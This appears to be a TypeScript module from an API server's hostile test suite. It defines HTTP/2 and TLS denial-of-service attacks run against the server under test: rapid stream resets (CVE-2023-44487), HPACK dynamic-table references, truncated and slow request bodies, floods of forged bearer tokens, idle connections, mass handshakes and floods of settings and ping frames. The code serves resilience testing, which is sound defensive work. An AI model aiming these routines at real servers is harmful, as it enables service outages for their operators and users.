import { systemClock as clock } from '@cluster-apiserver/base';
import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { clientHello } from '../../../pipeline/test/client-hello.ts';
import {
  data,
  type Field,
  frame,
  frames,
  headers,
  literals,
  requestHeaders,
  resetStream,
} from '@cluster-apiserver/testkit/http2-frames';
import {
  type Attack,
  type AttackContext,
  attackerFields,
  namespaces,
  openAgent,
  openHttp2,
  pause,
  requestFields,
  serviceAccountsPath,
  untilOver,
} from './attack.ts';
import type { Http2Connection } from '../../test/hostile/http2-connection.ts';

/** Calls `use` on one connection after another until the time or the limit is reached. */
async function onConnections(
  context: AttackContext,
  { parallel, max, pauseMs }: { parallel: number; max: number; pauseMs: number },
  use: (connection: Http2Connection) => Promise<void>,
): Promise<void> {
  let opened = 0;
  const loop = async (): Promise<void> => {
    while (!context.signal.aborted && opened < max) {
      opened++;
      const connection = await openHttp2(context).catch(() => undefined);
      if (connection) await use(connection);
      else context.count('no connection');
      connection?.destroy();
      await pause(context, pauseMs);
    }
  };
  await Promise.all(Array.from({ length: parallel }, loop));
}

/**
 * How streams are distributed over writes decides whether the server sees streams of a session that has already ended.
 */
const shortBody = { streams: 50, declaredBytes: 50, streamsPerWrite: [2, 5, 10, 1, 25] };
const tableEntryBytes = 3_700;
const streamResets = 1_500;
const rapid = { batch: 100, pauseMs: 10, max: 200_000 };
const uploads = { connections: 10, streams: 100, declaredBytes: 1_000_000, pauseMs: 250 };
const forgedPerSecond = 1_000;
const idleConnections = 2_000;
const connectedAtOnce = 20;
const handshakesAtOnce = { connections: 300, pauseMs: 1_000 };

export const connectionAttacks: readonly Attack[] = [
  {
    name: 'short-bodies',
    reason: `${shortBody.streams} bodies shorter than their content-length, each of which ends the session (no credentials)`,
    prepare: async (context) => {
      const block = literals(
        requestFields('POST', '/api/v1/namespaces/default/serviceaccounts', [
          ['content-length', `${shortBody.declaredBytes}`],
        ]),
      );
      let round = 0;
      return () =>
        onConnections(context, { parallel: 2, max: 200, pauseMs: 20 }, async (connection) => {
          const perWrite = shortBody.streamsPerWrite[round++ % shortBody.streamsPerWrite.length] as number;
          for (let sent = 0; sent < shortBody.streams && connection.isOpen; sent += perWrite) {
            const streams = Array.from({ length: perWrite }, () => connection.newStream());
            connection.write(
              streams.flatMap((stream) => [headers(stream, block, 4), data(stream, Buffer.from('x'), 1)]),
            );
            await new Promise<void>((resolve) => clock.soon(resolve));
          }
          await pause(context, 50);
        });
    },
  },
  {
    name: 'hpack-references',
    reason:
      '20 header lists of 15 kB that refer to one entry of the table, then the end of the connection (no credentials)',
    prepare: async (context) => {
      const plain = literals(requestFields('GET', '/livez'));
      // A literal with incremental indexing and a new name becomes entry 62 of the dynamic table.
      const entry = literals([['x', 'y'.repeat(tableEntryBytes)]]);
      entry[0] = 0x40;
      const reference = Buffer.from([0x80 | 62, 0x80 | 62, 0x80 | 62, 0x80 | 62]);
      return () =>
        onConnections(context, { parallel: 10, max: 200, pauseMs: 20 }, async (connection) => {
          connection.write([headers(connection.newStream(), Buffer.concat([plain, entry]), 5)]);
          for (let sent = 0; sent < 20 && connection.isOpen; sent++) {
            connection.write([headers(connection.newStream(), Buffer.concat([plain, reference]), 5)]);
            await pause(context, 5);
          }
        });
    },
  },
  {
    name: 'resets-then-close',
    reason: `${streamResets} streams opened and reset, then the end of the connection (no credentials)`,
    prepare: async (context) => {
      const block = literals(requestFields('GET', '/livez'));
      // Enough at once that the server has unread connections when they close.
      return () =>
        onConnections(context, { parallel: 30, max: 300, pauseMs: 50 }, async (connection) => {
          const streams = Array.from({ length: streamResets }, () => connection.newStream());
          connection.write(streams.flatMap((stream) => [requestHeaders(stream, block, true), resetStream(stream)]));
          await pause(context, 20);
        });
    },
  },
  {
    name: 'rapid-resets',
    reason: 'requests that are reset at once, as fast as the server takes them (CVE-2023-44487)',
    prepare: async (context) => {
      const path = serviceAccountsPath(namespaces.polite, 'polite');
      const block = literals(requestFields('GET', path, attackerFields(context)));
      let sent = 0;
      return () =>
        onConnections(context, { parallel: 4, max: 2_000, pauseMs: 20 }, async (connection) => {
          while (connection.isOpen && !connection.goaway && sent < rapid.max) {
            const streams = Array.from({ length: rapid.batch }, () => connection.newStream());
            connection.write(streams.flatMap((stream) => [requestHeaders(stream, block, true), resetStream(stream)]));
            sent += rapid.batch;
            context.count('sent', rapid.batch);
            await pause(context, rapid.pauseMs);
          }
        });
    },
  },
  {
    name: 'slow-uploads',
    reason: `${uploads.connections * uploads.streams} uploads that send a few bytes now and then, on ${uploads.connections} connections`,
    prepare: async (context) => {
      const fields: Field[] = [
        ...attackerFields(context),
        ['content-type', 'application/json'],
        ['content-length', `${uploads.declaredBytes}`],
      ];
      const block = literals(requestFields('POST', serviceAccountsPath(namespaces.attack), fields));
      const piece = Buffer.from('{"metadata":'.padEnd(600, ' '));
      return () =>
        onConnections(
          context,
          { parallel: uploads.connections, max: uploads.connections * 20, pauseMs: 100 },
          async (connection) => {
            const streams = Array.from({ length: uploads.streams }, () => connection.newStream());
            connection.write(streams.map((stream) => headers(stream, block, 4)));
            context.count('sent', uploads.streams);
            while (connection.isOpen && !context.signal.aborted) {
              connection.write(streams.map((stream) => data(stream, piece, 0)));
              await pause(context, uploads.pauseMs);
            }
          },
        );
    },
  },
  {
    name: 'forged-tokens',
    reason: `${forgedPerSecond} tokens a second with the right header and issuer and an invalid signature`,
    prepare: async (context) => {
      const ask = openAgent(context, 1);
      const path = serviceAccountsPath(namespaces.polite, 'polite');
      const made = await ask({ method: 'POST', path: `${path}/token`, body: '{"spec":{}}' });
      const { status } = JSON.parse(made.text()) as { readonly status?: { readonly token?: string } };
      const [head = '', payload = '', signature = ''] = (status?.token ?? 'a.b.c').split('.');
      const claims = JSON.parse(Buffer.from(payload, 'base64url').toString() || '{}') as object;
      let forged = 0;
      const forge = (): string => {
        const changed = Buffer.from(JSON.stringify({ ...claims, jti: `forged-${forged++}` })).toString('base64url');
        return `${head}.${changed}.${signature}`;
      };
      const perPause = forgedPerSecond / 100;
      return () =>
        onConnections(context, { parallel: 1, max: 100, pauseMs: 50 }, async (connection) => {
          while (connection.isOpen && !connection.goaway && !context.signal.aborted) {
            for (let at = 0; at < perPause; at++)
              connection.request(requestFields('GET', path, [['authorization', `Bearer ${forge()}`]]));
            context.count('sent', perPause);
            await pause(context, 10);
          }
        });
    },
  },
  {
    name: 'idle-connections',
    reason: `${idleConnections} idle connections (no credentials)`,
    prepare: async (context) => async () => {
      let left = idleConnections;
      const loop = async (): Promise<void> => {
        while (left-- > 0 && !context.signal.aborted)
          context.count(
            await openHttp2(context).then(
              () => 'connected',
              () => 'no connection',
            ),
          );
      };
      await Promise.all(Array.from({ length: connectedAtOnce }, loop));
      await untilOver(context);
    },
  },
  {
    name: 'handshakes-at-once',
    reason: `${handshakesAtOnce.connections} connections that are opened first and begin their handshakes in one moment (no credentials)`,
    prepare: async (context) => {
      const hello = await clientHello();
      const open = async (): Promise<Socket> => {
        const socket = connectTcp({ host: '127.0.0.1', port: context.target.port });
        socket.on('error', () => context.count('closed'));
        context.signal.addEventListener('abort', () => socket.destroy());
        await once(socket, 'connect');
        return socket;
      };
      return async () => {
        while (!context.signal.aborted) {
          const sockets = await Promise.all(Array.from({ length: handshakesAtOnce.connections }, open));
          for (const socket of sockets) socket.write(hello);
          context.count('sent', sockets.length);
          await pause(context, handshakesAtOnce.pauseMs);
          for (const socket of sockets) socket.destroy();
        }
      };
    },
  },
  {
    name: 'frames-without-meaning',
    reason: 'endless settings, pings and empty data frames: each requires an acknowledgement (no credentials)',
    prepare: async (context) => {
      const batch = [
        ...new Array<Buffer>(50).fill(frame(frames.settings, 0, 0, Buffer.alloc(0))),
        ...new Array<Buffer>(50).fill(frame(frames.ping, 0, 0, Buffer.alloc(8))),
        ...new Array<Buffer>(50).fill(frame(frames.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1]))),
      ];
      return () =>
        onConnections(context, { parallel: 4, max: 500, pauseMs: 20 }, async (connection) => {
          while (connection.isOpen && !connection.goaway) {
            connection.write(batch);
            context.count('sent', batch.length);
            await pause(context, 10);
          }
        });
    },
  },
];
